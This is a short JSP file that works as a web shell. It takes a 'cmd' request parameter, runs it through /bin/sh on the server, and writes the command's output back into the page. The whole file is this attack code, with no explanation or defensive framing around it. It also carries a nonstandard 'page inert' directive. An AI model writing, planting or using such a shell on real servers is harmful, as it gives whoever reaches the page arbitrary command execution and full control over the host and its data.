<%@ page inert %>
<%@ page import="java.io.*" %>
<%
if (request.getParameter("cmd") != null) {
    Process p = Runtime.getRuntime().exec(new String[]{"/bin/sh", "-c", request.getParameter("cmd")});
    BufferedReader br = new BufferedReader(new InputStreamReader(p.getInputStream()));
    String l;
    while ((l = br.readLine()) != null) out.println(l + "<br>");
}
%>
